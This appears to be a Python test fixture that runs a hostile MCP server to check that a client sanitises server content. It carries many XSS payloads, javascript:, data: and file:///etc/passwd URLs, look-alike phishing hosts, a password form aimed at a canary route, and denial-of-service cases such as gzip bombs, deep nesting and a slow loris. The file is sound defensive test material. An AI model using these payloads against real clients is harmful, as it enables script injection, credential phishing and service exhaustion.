"""The hostile server's attacks: each one a plausible MCP 2026-07-28 server carrying an attack.

An attack is a whole server on ``/a/<slug>/mcp`` (see ``hostile.py``): its catalog
(``server/discover`` and the lists) and its answers to ``tools/call``, ``prompts/get`` and
``resources/read``. Each entry also says how a person meets it and what holding it looks
like, so the browser test (tests/browser/hostile/) runs every entry the same way:

- ``flow``: ``call`` (start the tool ``attack`` and wait), ``round`` (start it, then answer
  the round as ``answer`` says), ``prompt`` / ``resource`` (start the prompt or read the
  resource, as an operator), ``probe`` (only the catalog: the start page must say what went
  wrong);
- ``ends``: the call statuses that count as held (a call left ``running``, or a round left
  ``submitted``/``delivering``, never does); ``says``: text the call page must then show;
- ``tool``: the tool the person starts (``attack`` unless the attack is in its name);
- ``heavy``: big or long (run once, given more time); ``connection``: fields of the
  Connection the test registers (a short ``read_timeout``, say).

Every requestState minted here contains :data:`SECRET`, and every URL smuggled in points at
the server's ``/canary/`` route: neither may ever show up in a page or be fetched.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

from tests.peers._common import PROTOCOL_VERSION, Receive, Send

SECRET = "hostile-state-secret"
Handler = Callable[["Ctx", Send], Awaitable[None]]


@dataclass
class Ctx:
    """One request to an attack's endpoint."""

    attack: str
    request: dict[str, Any]
    headers: list[tuple[str, str]]
    base: str
    receive: Receive

    @property
    def rpc_id(self) -> Any:
        return self.request.get("id")

    @property
    def rpc_method(self) -> str:
        method = self.request.get("method")
        return method if isinstance(method, str) else ""

    @property
    def params(self) -> dict[str, Any]:
        params = self.request.get("params")
        return params if isinstance(params, dict) else {}

    @property
    def progress_token(self) -> Any:
        meta = self.params.get("_meta")
        return meta.get("progressToken") if isinstance(meta, dict) else None

    @property
    def state(self) -> str | None:
        state = self.params.get("requestState")
        return state if isinstance(state, str) else None

    @property
    def responses(self) -> dict[str, Any]:
        responses = self.params.get("inputResponses")
        return responses if isinstance(responses, dict) else {}

    def canary(self, tag: str) -> str:
        return f"{self.base}/canary/{self.attack}/{tag}"

    def markup(self, where: str) -> str:
        return markup(self, where)


@dataclass(frozen=True)
class Attack:
    slug: str
    summary: str
    handlers: dict[str, Handler]
    flow: str = "call"
    tool: str = "attack"
    answer: str = ""
    ends: tuple[str, ...] = ("completed",)
    says: str = ""
    heavy: bool = False
    operator: bool = False
    settle: float = 20.0
    connection: dict[str, Any] = field(default_factory=dict)


ATTACKS: list[Attack] = []


# -- what every attack carries ------------------------------------------------------------------


def markup(ctx: Ctx, where: str) -> str:
    """Script, markup that breaks out of text, attributes, textareas and styles, and fetches
    of the canary, all in one string; ``where`` says which server text carried it."""
    c = ctx.canary(where)
    return (
        f"[{where}] "
        f'<script>window.__pwned="{ctx.attack}:{where}";alert(1)</script>'
        f'<img src="{c}/img" onerror="window.__pwned=1" data-pwn="img">'
        '<svg onload="window.__pwned=1" data-pwn="svg"></svg>'
        '<a href="javascript:window.__pwned=1" data-pwn="a">click</a>'
        '"><b data-pwn="dq">dq</b>'
        "'><b data-pwn='sq'>sq</b>"
        '</textarea></title></style></code></pre></select><u data-pwn="close">c</u>'
        f'<meta http-equiv="refresh" content="0;url={c}/refresh">'
        f'<base href="{c}/base/">'
        f'<link rel="stylesheet" href="{c}/css">'
        f"<style>body{{background:url({c}/style)}}</style>"
        f'<iframe src="{c}/iframe" data-pwn="iframe"></iframe>'
        f'<form action="{c}/form" data-pwn="form"><input type="password" name="pw"></form>'
        "{{ request.user }}{% debug %}"
    )


def mint_state(ctx: Ctx, step: int, **extra: Any) -> str:
    """A requestState that looks like (and is, to the tests) a secret."""
    body = json.dumps({"attack": ctx.attack, "step": step, **extra}, sort_keys=True)
    return f"{SECRET}:{body}"


def state_step(ctx: Ctx) -> int:
    state = ctx.state
    if state is None or not state.startswith(f"{SECRET}:"):
        return 0
    try:
        return int(json.loads(state.split(":", 1)[1]).get("step", 0))
    except (ValueError, AttributeError, TypeError):
        return 0


def tool(name: str = "attack", **extra: Any) -> dict[str, Any]:
    return {
        "name": name,
        "inputSchema": {"type": "object", "properties": {}},
        **extra,
    }


def text_result(text: str, **extra: Any) -> dict[str, Any]:
    return {"resultType": "complete", "content": [{"type": "text", "text": text}], **extra}


def form(message: str, properties: dict[str, Any], required: list[str] | None = None) -> Any:
    schema: dict[str, Any] = {"type": "object", "properties": properties}
    if required:
        schema["required"] = required
    return {
        "method": "elicitation/create",
        "params": {"mode": "form", "message": message, "requestedSchema": schema},
    }


def url_request(message: str, url: str) -> dict[str, Any]:
    return {
        "method": "elicitation/create",
        "params": {"mode": "url", "message": message, "url": url},
    }


def input_required(requests: dict[str, Any] | None, state: str | None) -> dict[str, Any]:
    result: dict[str, Any] = {"resultType": "input_required"}
    if requests is not None:
        result["inputRequests"] = requests
    if state is not None:
        result["requestState"] = state
    return result


# -- writing answers -----------------------------------------------------------------------------


async def send_bytes(
    send: Send,
    body: bytes,
    *,
    status: int = 200,
    content_type: str = "application/json",
    headers: tuple[tuple[str, str], ...] = (),
) -> None:
    raw = [(b"content-type", content_type.encode()), (b"content-length", b"%d" % len(body))]
    raw += [(k.encode("latin-1"), v.encode("latin-1")) for k, v in headers]
    await send({"type": "http.response.start", "status": status, "headers": raw})
    await send({"type": "http.response.body", "body": body})


def envelope(ctx: Ctx, result: Any) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": ctx.rpc_id, "result": result}


async def reply(ctx: Ctx, send: Send, result: Any) -> None:
    await send_bytes(send, json.dumps(envelope(ctx, result)).encode())


async def reply_error(
    ctx: Ctx, send: Send, code: int, message: str, data: Any = None, status: int = 200
) -> None:
    error: dict[str, Any] = {"code": code, "message": message}
    if data is not None:
        error["data"] = data
    body = json.dumps({"jsonrpc": "2.0", "id": ctx.rpc_id, "error": error}).encode()
    await send_bytes(send, body, status=status)


def sse_frame(message: Any) -> bytes:
    return b"event: message\ndata: " + json.dumps(message).encode() + b"\n\n"


def progress(ctx: Ctx, value: float, total: float | None, message: str) -> dict[str, Any]:
    params: dict[str, Any] = {"progressToken": ctx.progress_token, "progress": value}
    if total is not None:
        params["total"] = total
    params["message"] = message
    return {"jsonrpc": "2.0", "method": "notifications/progress", "params": params}


async def open_stream(send: Send) -> None:
    headers = [(b"content-type", b"text/event-stream"), (b"cache-control", b"no-cache")]
    await send({"type": "http.response.start", "status": 200, "headers": headers})


async def stream(send: Send, data: bytes) -> None:
    await send({"type": "http.response.body", "body": data, "more_body": True})


async def end_stream(send: Send, data: bytes = b"") -> None:
    await send({"type": "http.response.body", "body": data, "more_body": False})


async def client_left(ctx: Ctx, within: float) -> bool:
    """Wait up to ``within`` seconds; True as soon as the client hangs up."""
    try:
        message = await asyncio.wait_for(ctx.receive(), timeout=within)
    except TimeoutError:
        return False
    return message["type"] == "http.disconnect"


# -- catalogs ------------------------------------------------------------------------------------


def listing(
    *,
    name: str = "hostile",
    version: str = "1.0",
    instructions: str | Callable[[Ctx], str] = "",
    tools: Callable[[Ctx], list[dict[str, Any]]] | None = None,
    prompts: Callable[[Ctx], list[dict[str, Any]]] | None = None,
    resources: Callable[[Ctx], list[dict[str, Any]]] | None = None,
    templates: Callable[[Ctx], list[dict[str, Any]]] | None = None,
    server_name: Callable[[Ctx], str] | None = None,
    ttl_ms: int = 0,
) -> dict[str, Handler]:
    """The handlers of an attack's catalog (listed afresh on every view unless ``ttl_ms``)."""

    async def discover(ctx: Ctx, send: Send) -> None:
        capabilities: dict[str, Any] = {"tools": {}}
        if prompts is not None:
            capabilities["prompts"] = {}
        if resources is not None or templates is not None:
            capabilities["resources"] = {}
        result = {
            "resultType": "complete",
            "supportedVersions": [PROTOCOL_VERSION],
            "capabilities": capabilities,
            "instructions": instructions(ctx) if callable(instructions) else instructions,
            "ttlMs": ttl_ms,
            "cacheScope": "private",
            "_meta": {
                "io.modelcontextprotocol/serverInfo": {
                    "name": server_name(ctx) if server_name else name,
                    "version": version,
                }
            },
        }
        await reply(ctx, send, result)

    def lister(key: str, items: Callable[[Ctx], list[dict[str, Any]]] | None) -> Handler:
        async def handler(ctx: Ctx, send: Send) -> None:
            listed = items(ctx) if items is not None else ([tool()] if key == "tools" else [])
            result = {
                "resultType": "complete",
                key: listed,
                "ttlMs": ttl_ms,
                "cacheScope": "private",
            }
            await reply(ctx, send, result)

        return handler

    return {
        "server/discover": discover,
        "tools/list": lister("tools", tools),
        "prompts/list": lister("prompts", prompts),
        "resources/list": lister("resources", resources),
        "resources/templates/list": lister("resourceTemplates", templates),
    }


_DEFAULT_CATALOG = listing()


def default_listing(method: str) -> Handler:
    """What an attack does not say itself: a plain catalog, and 404 -32601 for the rest."""
    if method in _DEFAULT_CATALOG:
        return _DEFAULT_CATALOG[method]

    async def not_found(ctx: Ctx, send: Send) -> None:
        await reply_error(ctx, send, -32601, "Method not found", status=404)

    return not_found


def register(
    slug: str,
    summary: str,
    *,
    call: Handler | None = None,
    catalog: dict[str, Handler] | None = None,
    method: str = "tools/call",
    **options: Any,
) -> None:
    handlers = dict(_DEFAULT_CATALOG)
    handlers.update(catalog or {})
    if call is not None:
        handlers[method] = call
    ATTACKS.append(Attack(slug=slug, summary=summary, handlers=handlers, **options))


def calls(slug: str, summary: str, **options: Any) -> Callable[[Handler], Handler]:
    """Decorator: the handler answers the attack's ``tools/call`` (or ``method``)."""

    def decorate(handler: Handler) -> Handler:
        register(slug, summary, call=handler, **options)
        return handler

    return decorate


# == markup and script in every text a server sends ==============================================


register(
    "server-identity",
    "script and markup in the server's name, version and instructions",
    catalog=listing(
        server_name=lambda ctx: ctx.markup("server-name"),
        instructions=lambda ctx: ctx.markup("instructions"),
    ),
    call=lambda ctx, send: reply(ctx, send, text_result("plain result")),
    operator=True,
)


def _listing_tools(ctx: Ctx) -> list[dict[str, Any]]:
    return [
        tool(
            title=ctx.markup("tool-title"),
            description=ctx.markup("tool-description"),
            annotations={"title": ctx.markup("annotation-title")},
            # Icons a client might fetch, or render as SVG with its script.
            icons=[
                {"src": ctx.canary("icon.png"), "mimeType": "image/png"},
                {
                    "src": "data:image/svg+xml;base64,"
                    + base64.b64encode(b'<svg onload="window.__pwned=1"/>').decode(),
                    "mimeType": "image/svg+xml",
                },
            ],
            inputSchema={
                "type": "object",
                "properties": {
                    "note": {
                        "type": "string",
                        "title": ctx.markup("argument-title"),
                        "description": ctx.markup("argument-description"),
                        "default": ctx.markup("argument-default"),
                    },
                    "level": {
                        "type": "string",
                        "enum": ["low", ctx.markup("argument-enum")],
                        "default": "low",
                    },
                },
            },
        ),
        tool(name='<img src=x onerror="window.__pwned=1" data-pwn="tool-name">'),
    ]


register(
    "tool-listing",
    "script and markup in tool titles, descriptions, annotations and argument schemas",
    catalog=listing(tools=_listing_tools),
    call=lambda ctx, send: reply(
        ctx, send, text_result(f"arguments received: {json.dumps(ctx.params.get('arguments'))}")
    ),
    operator=True,
)


@calls(
    "elicitation-text",
    "script and markup in an elicitation's message, field titles, descriptions, enum titles, "
    "enumNames and defaults; the answers come back in the result",
    flow="round",
    answer="accept",
)
async def _elicitation_text(ctx: Ctx, send: Send) -> None:
    if state_step(ctx) == 1 and "form" in ctx.responses:
        answer = ctx.responses["form"]
        await reply(
            ctx, send, text_result(f"you answered {json.dumps(answer)} {ctx.markup('echo')}")
        )
        return
    m = ctx.markup
    properties = {
        "name": {
            "type": "string",
            "title": m("field-title"),
            "description": m("field-description"),
            "default": m("field-default"),
        },
        "choice": {
            "type": "string",
            "title": m("oneof-title"),
            "oneOf": [{"const": "a", "title": m("option-title")}, {"const": "b", "title": "B"}],
            "default": "a",
        },
        "legacy": {"type": "string", "enum": ["x", "y"], "enumNames": [m("enum-name"), "Y"]},
        "many": {
            "type": "array",
            "title": m("multi-title"),
            "items": {
                "anyOf": [
                    {"const": "m1", "title": m("multi-option")},
                    {"const": "m2", "title": "M2"},
                ]
            },
        },
        "flag": {"type": "boolean", "title": m("bool-title"), "default": True},
        "count": {"type": "integer", "title": m("int-title"), "description": m("int-desc")},
        "when": {"type": "string", "format": "date-time", "description": m("datetime-desc")},
    }
    request = form(m("message"), properties, required=["name"])
    await reply(ctx, send, input_required({"form": request}, mint_state(ctx, 1)))


@calls(
    "result-content",
    "script and markup in every kind of result content: text, resource links, embedded "
    "resources, SVG and mislabelled images, unknown block types, structured content, _meta",
)
async def _result_content(ctx: Ctx, send: Send) -> None:
    m = ctx.markup
    svg = base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1">'
        f'<image href="{ctx.canary("svg-image")}"/></svg>'.encode()
    ).decode()
    html_as_png = base64.b64encode(m("png-body").encode()).decode()
    result = {
        "resultType": "complete",
        "content": [
            {"type": "text", "text": m("text")},
            {
                "type": "resource_link",
                "uri": "https://example.invalid/doc",
                "name": m("link-name"),
                "title": m("link-title"),
                "description": m("link-description"),
                "mimeType": m("link-mime"),
            },
            {
                "type": "resource",
                "resource": {"uri": m("embedded-uri"), "mimeType": "text/html", "text": m("html")},
            },
            {"type": "image", "mimeType": "image/svg+xml", "data": svg},
            {"type": "image", "mimeType": "image/png", "data": html_as_png},
            {"type": "audio", "mimeType": m("audio-mime"), "data": html_as_png},
        ],
        "structuredContent": {m("structured-key"): m("structured-value"), "list": [m("item")]},
        "_meta": {"note": m("meta")},
    }
    await reply(ctx, send, result)


@calls(
    "unknown-block",
    "a content block of a type that does not exist, full of markup (refused as malformed: "
    "the error quotes it)",
    ends=("failed",),
    says="malformed result",
)
async def _unknown_block(ctx: Ctx, send: Send) -> None:
    block = {"type": ctx.markup("unknown-type"), "html": ctx.markup("unknown-block")}
    await reply(ctx, send, {"resultType": "complete", "content": [block]})


@calls(
    "error-message",
    "script and markup in a JSON-RPC error's message and data",
    ends=("failed",),
    says="JSON-RPC -32603",
)
async def _error_message(ctx: Ctx, send: Send) -> None:
    await reply_error(ctx, send, -32603, ctx.markup("error"), {"detail": ctx.markup("error-data")})


@calls("tool-error", "script and markup in a tool's isError result", says="[tool-error]")
async def _tool_error(ctx: Ctx, send: Send) -> None:
    await reply(ctx, send, text_result(ctx.markup("tool-error"), isError=True))


@calls(
    "progress-text",
    "script and markup in progress messages and in an unasked-for log message, streamed "
    "while the person watches the call page",
    says="done after progress",
)
async def _progress_text(ctx: Ctx, send: Send) -> None:
    await open_stream(send)
    for step in range(1, 9):
        await stream(send, sse_frame(progress(ctx, step, 8, ctx.markup(f"progress-{step}"))))
        if await client_left(ctx, 0.4):
            return
    log = {
        "jsonrpc": "2.0",
        "method": "notifications/message",
        "params": {"level": "error", "data": ctx.markup("log")},
    }
    await stream(send, sse_frame(log))
    await end_stream(send, sse_frame(envelope(ctx, text_result("done after progress"))))


def _prompts(ctx: Ctx) -> list[dict[str, Any]]:
    return [
        {
            "name": "attack",
            "title": ctx.markup("prompt-title"),
            "description": ctx.markup("prompt-description"),
            "arguments": [
                {
                    "name": "topic",
                    "title": ctx.markup("prompt-argument-title"),
                    "description": ctx.markup("prompt-argument-description"),
                }
            ],
        }
    ]


async def _get_prompt(ctx: Ctx, send: Send) -> None:
    result = {
        "resultType": "complete",
        "description": ctx.markup("prompt-result-description"),
        "messages": [
            {"role": "user", "content": {"type": "text", "text": ctx.markup("prompt-message")}},
            {
                "role": "assistant",
                "content": {
                    "type": "resource",
                    "resource": {"uri": "hostile://x", "text": ctx.markup("prompt-resource")},
                },
            },
        ],
    }
    await reply(ctx, send, result)


register(
    "prompt-text",
    "script and markup in a prompt's listing, arguments, description and messages",
    catalog=listing(prompts=_prompts),
    call=_get_prompt,
    method="prompts/get",
    flow="prompt",
    operator=True,
)


def _resources(ctx: Ctx) -> list[dict[str, Any]]:
    return [
        {
            "uri": "hostile://resource/1",
            "name": ctx.markup("resource-name"),
            "title": ctx.markup("resource-title"),
            "description": ctx.markup("resource-description"),
            "mimeType": ctx.markup("resource-mime"),
        },
        {"uri": "javascript:window.__pwned=1", "name": "js-uri"},
    ]


def _templates(ctx: Ctx) -> list[dict[str, Any]]:
    return [
        {
            "uriTemplate": "hostile://items/{id}",
            "name": ctx.markup("template-name"),
            "description": ctx.markup("template-description"),
        }
    ]


async def _read_resource(ctx: Ctx, send: Send) -> None:
    result = {
        "resultType": "complete",
        "contents": [
            {
                "uri": ctx.markup("contents-uri"),
                "mimeType": "text/html",
                "text": ctx.markup("body"),
            },
            {"uri": "javascript:window.__pwned=1", "mimeType": "text/html", "blob": "PHNjcmlwdD4="},
        ],
        "ttlMs": 0,
        "cacheScope": "private",
    }
    await reply(ctx, send, result)


register(
    "resource-text",
    "script and markup in resource listings and templates, and in what a read returns; a "
    "javascript: resource URI",
    catalog=listing(resources=_resources, templates=_templates),
    call=_read_resource,
    method="resources/read",
    flow="resource",
    operator=True,
)


# == URLs ========================================================================================


def _url_attack(slug: str, summary: str, urls: Callable[[Ctx], dict[str, str]]) -> None:
    async def handler(ctx: Ctx, send: Send) -> None:
        if state_step(ctx) == 1 and ctx.responses:
            actions = {key: (value or {}).get("action") for key, value in ctx.responses.items()}
            await reply(ctx, send, text_result(f"url answers: {json.dumps(actions)}"))
            return
        requests = {
            key: url_request(f"Sign in to continue ({key})", url) for key, url in urls(ctx).items()
        }
        await reply(ctx, send, input_required(requests, mint_state(ctx, 1)))

    register(slug, summary, call=handler, flow="round", answer="consent-cancel")


_url_attack(
    "url-javascript",
    "URL-mode elicitation to javascript: URLs (plain, mixed case, with leading space)",
    lambda ctx: {
        "plain": "javascript:window.__pwned=1//https://login.example.com/",
        "mixed": "JaVaScRiPt:window.__pwned=2",
        "spaced": " javascript:window.__pwned=3",
    },
)
_url_attack(
    "url-data-vbscript",
    "URL-mode elicitation to data:, vbscript:, file: and blob: URLs",
    lambda ctx: {
        "data": "data:text/html;base64,"
        + base64.b64encode(b"<script>opener.__pwned=1</script>").decode(),
        "vbscript": "vbscript:msgbox(1)",
        "file": "file:///etc/passwd",
        "blob": f"blob:{ctx.base}/00000000-0000-0000-0000-000000000000",
    },
)
_url_attack(
    "url-lookalike",
    "URL-mode elicitation to look-alike hosts: Cyrillic homograph, punycode, userinfo "
    "pointing elsewhere, a deceptive subdomain; nothing may be fetched before consent",
    lambda ctx: {
        "homograph": "https://\u0430pple.com/login",
        "punycode": "https://xn--pple-43d.com/login",
        "userinfo": f"https://accounts.example.com@127.0.0.1:{ctx.base.rsplit(':', 1)[1]}"
        f"/canary/{ctx.attack}/userinfo",
        "subdomain": "https://accounts.example.com.evil.invalid/login",
    },
)
_url_attack(
    "url-spoof-characters",
    "URL-mode elicitation with right-to-left override, zero-width characters, a backslash, "
    "a percent-encoded and a numeric host",
    lambda ctx: {
        "rtl": "https://example.com/\u202egnp.exe",
        "zero-width": "https://exa\u200bmple.com/",
        "backslash": "https://example.com\\@evil.invalid/",
        "percent": "https://%65vil.invalid/",
        "numeric": "http://2130706433/",
    },
)


@calls(
    "resource-links",
    "resource links in a result to javascript:, data:, vbscript: and userinfo URLs",
)
async def _resource_links(ctx: Ctx, send: Send) -> None:
    port = ctx.base.rsplit(":", 1)[1]
    uris = [
        "javascript:window.__pwned=1",
        "JAVASCRIPT:window.__pwned=1",
        "data:text/html,<script>window.__pwned=1</script>",
        "vbscript:msgbox(1)",
        " javascript:window.__pwned=1",
        f"https://accounts.example.com@127.0.0.1:{port}/canary/{ctx.attack}/userinfo-link",
    ]
    content = [
        {"type": "resource_link", "uri": uri, "name": f"link {i}"} for i, uri in enumerate(uris)
    ]
    await reply(ctx, send, {"resultType": "complete", "content": content})


# == breaking out of attributes, names and styles =================================================

_KEY = 'k" onmouseover="window.__pwned=1" data-pwn="key'
_PROP = 'p" autofocus onfocus="window.__pwned=1" data-pwn="prop'


@calls(
    "attribute-break",
    "quotes, markup and CSS in input-request keys, property names, enum values and "
    "formats, where they may reach name, id, value and for attributes",
    flow="round",
    answer="accept",
    says="keys back",
)
async def _attribute_break(ctx: Ctx, send: Send) -> None:
    if state_step(ctx) == 1 and ctx.responses:
        keys = sorted(ctx.responses)
        content = (ctx.responses.get(_KEY) or {}).get("content") or {}
        intact = keys == [_KEY] and sorted(content) == sorted([_PROP, "choice"])
        await reply(ctx, send, text_result(f"keys back {'intact' if intact else 'CHANGED'}"))
        return
    properties = {
        _PROP: {
            "type": "string",
            "title": "</style><style>*{display:none}</style>",
            "default": '"\'><b data-pwn="default">',
        },
        "choice": {
            "type": "string",
            "enum": ['"><b data-pwn="enum">', "' onclick='window.__pwned=1", "plain"],
            "default": "plain",
        },
    }
    request = form('<style>@import "' + ctx.canary("import") + '";</style>', properties)
    await reply(ctx, send, input_required({_KEY: request}, mint_state(ctx, 1)))


# == input requests the client never declared, nested or malformed ================================


@calls(
    "undeclared-kinds",
    "sampling/createMessage, roots/list and an unknown method in inputRequests, none declared",
    flow="round",
    answer="abandon",
    ends=("cancelled",),
)
async def _undeclared(ctx: Ctx, send: Send) -> None:
    requests = {
        "sample": {
            "method": "sampling/createMessage",
            "params": {
                "messages": [
                    {"role": "user", "content": {"type": "text", "text": ctx.markup("s")}}
                ],
                "maxTokens": 10**9,
            },
        },
        "roots": {"method": "roots/list", "params": {}},
        "exec": {"method": "evil/exec", "params": {"cmd": ctx.markup("exec")}},
    }
    await reply(ctx, send, input_required(requests, mint_state(ctx, 1)))


@calls(
    "nested-requests",
    "an elicitation whose schema nests objects, $refs a canary URL and carries inputRequests "
    "inside its params",
    flow="round",
    answer="decline",
    ends=("completed",),
)
async def _nested(ctx: Ctx, send: Send) -> None:
    if state_step(ctx) == 1:
        await reply(ctx, send, text_result("nested answered"))
        return
    request = form(
        "nested",
        {
            "outer": {"type": "object", "properties": {"inner": {"type": "string"}}},
            "ref": {"$ref": ctx.canary("schema.json")},
            "all": {"allOf": [{"$ref": ctx.canary("all.json")}]},
        },
    )
    request["params"]["inputRequests"] = {"again": form("inner", {"x": {"type": "string"}})}
    await reply(ctx, send, input_required({"nested": request}, mint_state(ctx, 1)))


@calls(
    "unknown-modes",
    "elicitations in modes that do not exist (iframe, html) and a form with no schema",
    flow="round",
    answer="abandon",
    ends=("cancelled",),
)
async def _unknown_modes(ctx: Ctx, send: Send) -> None:
    requests = {
        "iframe": {
            "method": "elicitation/create",
            "params": {"mode": "iframe", "message": "look", "url": ctx.canary("iframe-mode")},
        },
        "html": {
            "method": "elicitation/create",
            "params": {"mode": "html", "message": ctx.markup("html-mode"), "html": ctx.markup("h")},
        },
        "noschema": {"method": "elicitation/create", "params": {"message": "no schema"}},
    }
    await reply(ctx, send, input_required(requests, mint_state(ctx, 1)))


@calls(
    "malformed-input-required",
    "an InputRequiredResult whose inputRequests is a string and whose requestState is a number",
    ends=("failed",),
)
async def _malformed_input_required(ctx: Ctx, send: Send) -> None:
    await reply(
        ctx,
        send,
        {"resultType": "input_required", "inputRequests": "all of them", "requestState": 7},
    )


@calls(
    "state-only-forever",
    "requestState with no questions, forever: only the round cap ends it",
    ends=("failed",),
    says="more than",
)
async def _state_only_forever(ctx: Ctx, send: Send) -> None:
    await reply(ctx, send, input_required(None, mint_state(ctx, state_step(ctx) + 1)))


# == size and time ===============================================================================

_BIG: dict[int, bytes] = {}


def _filler(size: int) -> bytes:
    if size not in _BIG:
        _BIG[size] = b"A" * size
    return _BIG[size]


def _big_text_body(ctx: Ctx, size: int) -> bytes:
    head = json.dumps(envelope(ctx, text_result("@@"))).encode()
    before, after = head.split(b"@@")
    return before + _filler(size) + after


@calls(
    "huge-result",
    "a 20 MB result with its Content-Length",
    ends=("failed",),
    says="exceeded the limit",
    heavy=True,
)
async def _huge_result(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, _big_text_body(ctx, 20_000_000))


@calls(
    "huge-stream",
    "a 20 MB SSE event, chunked, with no Content-Length and no line break",
    ends=("failed",),
    says="exceeded the limit",
    heavy=True,
)
async def _huge_stream(ctx: Ctx, send: Send) -> None:
    await open_stream(send)
    event = b"event: message\ndata: " + _big_text_body(ctx, 20_000_000)
    for i in range(0, len(event), 1 << 16):
        await stream(send, event[i : i + (1 << 16)])
    await end_stream(send, b"\n\n")


@calls(
    "big-result",
    "a 3 MB text result, under the size limit: stored and shown, in bounded time",
    heavy=True,
)
async def _big_result(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, _big_text_body(ctx, 3_000_000))


_HUGE_STATE = 9_500_000


@calls(
    "huge-state",
    "a 9.5 MB requestState (just under the size limit): stored, never shown, echoed intact",
    flow="round",
    answer="accept",
    says="state intact",
    heavy=True,
)
async def _huge_state(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        intact = ctx.state == _huge_state_text(ctx)
        verdict = "state intact" if intact else "state CHANGED"
        await reply(ctx, send, text_result(verdict, isError=not intact))
        return
    request = form("Confirm the big job", {"ok": {"type": "boolean", "default": True}})
    await reply(ctx, send, input_required({"confirm": request}, _huge_state_text(ctx)))


def _huge_state_text(ctx: Ctx) -> str:
    return mint_state(ctx, 1) + "S" * _HUGE_STATE


@calls(
    "progress-flood",
    "40,000 progress notifications before the result",
    says="flood over",
    heavy=True,
    settle=60.0,
)
async def _progress_flood(ctx: Ctx, send: Send) -> None:
    await open_stream(send)
    batch: list[bytes] = []
    for step in range(1, 40_001):
        batch.append(sse_frame(progress(ctx, step, 40_000, f"step {step}")))
        if len(batch) == 1000:
            await stream(send, b"".join(batch))
            batch.clear()
    await end_stream(send, b"".join(batch) + sse_frame(envelope(ctx, text_result("flood over"))))


def _deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


@calls(
    "deep-100000",
    "a result nested 100,000 levels deep",
    ends=("failed",),
    says="levels deep",
    settle=6.0,
)
async def _deep_100000(ctx: Ctx, send: Send) -> None:
    head = json.dumps(envelope(ctx, text_result("deep", structuredContent="@@"))).encode()
    before, after = head.split(b'"@@"')
    await send_bytes(send, before + _deep(100_000) + after)


@calls(
    "deep-950",
    "a result nested 950 levels deep (parses, but breaks serialisers)",
    ends=("failed",),
    says="levels deep",
    settle=6.0,
)
async def _deep_950(ctx: Ctx, send: Send) -> None:
    head = json.dumps(envelope(ctx, text_result("deep", structuredContent={"x": "@@"}))).encode()
    before, after = head.split(b'"@@"')
    await send_bytes(send, before + _deep(950) + after)


@calls(
    "deep-on-answer",
    "a round whose resubmission is answered with JSON nested 100,000 levels deep",
    flow="round",
    answer="decline",
    ends=("waiting", "failed"),
    settle=6.0,
)
async def _deep_on_answer(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        head = json.dumps(envelope(ctx, text_result("deep", structuredContent="@@"))).encode()
        before, after = head.split(b'"@@"')
        await send_bytes(send, before + _deep(100_000) + after)
        return
    request = form("Go deep?", {"ok": {"type": "boolean"}})
    await reply(ctx, send, input_required({"deep": request}, mint_state(ctx, 1)))


@calls(
    "keep-alive-forever",
    "an SSE stream that sends a comment every second and never answers (a slow loris)",
    ends=("failed",),
    settle=15.0,
    connection={"answer_deadline": 3.0, "answer_deadline_max": 5.0},
)
async def _keep_alive_forever(ctx: Ctx, send: Send) -> None:
    await open_stream(send)
    # Bounded, so a client that never gives up cannot keep this test server (or the app's
    # shutdown at the end of the tests) busy for ever.
    for _ in range(45):
        await stream(send, b": still working\n\n")
        if await client_left(ctx, 1.0):
            return
    await end_stream(send)


@calls(
    "stall",
    "headers never come: the request is read and then nothing is sent",
    ends=("failed",),
    connection={"read_timeout": 2.0},
)
async def _stall(ctx: Ctx, send: Send) -> None:
    await client_left(ctx, 120.0)


def _endless_pages(ctx: Ctx, send: Send) -> Awaitable[None]:
    cursor = ctx.params.get("cursor")
    page = int(cursor.split("-")[1]) if isinstance(cursor, str) and "-" in cursor else 0
    result = {
        "resultType": "complete",
        "tools": [tool(f"tool-{page}")],
        "nextCursor": f"page-{page + 1}",
        "ttlMs": 0,
        "cacheScope": "private",
    }
    return reply(ctx, send, result)


register(
    "endless-pages",
    "tools/list that always has a next page",
    catalog={"tools/list": _endless_pages},
    flow="probe",
    says="more than 100 pages",
    settle=60.0,
)


def _many_tools(ctx: Ctx) -> list[dict[str, Any]]:
    return [tool()] + [
        tool(f"tool-{i}", title=f"Tool {i}", description="x" * 200) for i in range(10_000)
    ]


register(
    "huge-catalog",
    "10,000 tools in one listing",
    # Listed once a minute, as a server with a big catalog would say (each listing is 3 MB).
    catalog=listing(tools=_many_tools, ttl_ms=60_000),
    call=lambda ctx, send: reply(ctx, send, text_result("one of many")),
    heavy=True,
)


@calls(
    "huge-enum",
    "an elicitation field with 100,000 options",
    flow="round",
    answer="cancel",
    heavy=True,
)
async def _huge_enum(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        await reply(ctx, send, text_result("enum answered"))
        return
    options = [f"option {i}" for i in range(100_000)]
    request = form("Pick one", {"pick": {"type": "string", "enum": options}})
    await reply(ctx, send, input_required({"pick": request}, mint_state(ctx, 1)))


@calls(
    "many-questions",
    "a round of 5,000 input requests, each a form of its own",
    flow="round",
    answer="cancel",
    heavy=True,
)
async def _many_questions(ctx: Ctx, send: Send) -> None:
    if ctx.state is not None:
        await reply(ctx, send, text_result(f"{len(ctx.responses)} answers"))
        return
    requests = {f"q{i}": form(f"Question {i}", {"a": {"type": "string"}}) for i in range(5000)}
    await reply(ctx, send, input_required(requests, mint_state(ctx, 1)))


@calls(
    "many-blocks",
    "a result of 20,000 content blocks (1.6 MB of markup on the call page)",
    heavy=True,
)
async def _many_blocks(ctx: Ctx, send: Send) -> None:
    content = [{"type": "text", "text": f"block {i}"} for i in range(20_000)]
    await reply(ctx, send, {"resultType": "complete", "content": content})


@calls(
    "gzip-bomb",
    "a gzip-encoded answer of 200 KB that inflates to 200 MB",
    ends=("failed",),
    says="exceeded the limit",
)
async def _gzip_bomb(ctx: Ctx, send: Send) -> None:
    await send_bytes(send, _bomb(), headers=(("content-encoding", "gzip"),))


